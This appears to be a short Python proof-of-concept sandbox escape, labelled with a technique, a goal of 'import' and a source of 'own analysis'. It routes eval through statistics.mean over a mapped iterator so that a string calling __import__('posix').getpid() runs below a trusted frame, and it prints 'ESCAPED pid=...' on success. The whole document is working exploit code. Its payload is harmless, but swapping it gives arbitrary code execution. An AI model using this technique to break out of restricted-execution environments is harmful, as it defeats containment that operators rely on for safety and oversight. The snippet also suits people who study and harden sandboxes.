# technique: statistics consumes an iterator whose elements are evaluated in C
# goal: import
# source: own analysis: the default namespace of eval, below a trusted frame
import statistics
found = []
try:
    statistics.mean(map(found.append, map(eval, ['__import__("posix").getpid()'])))
except TypeError:
    pass
print('ESCAPED pid=%d' % found[0])
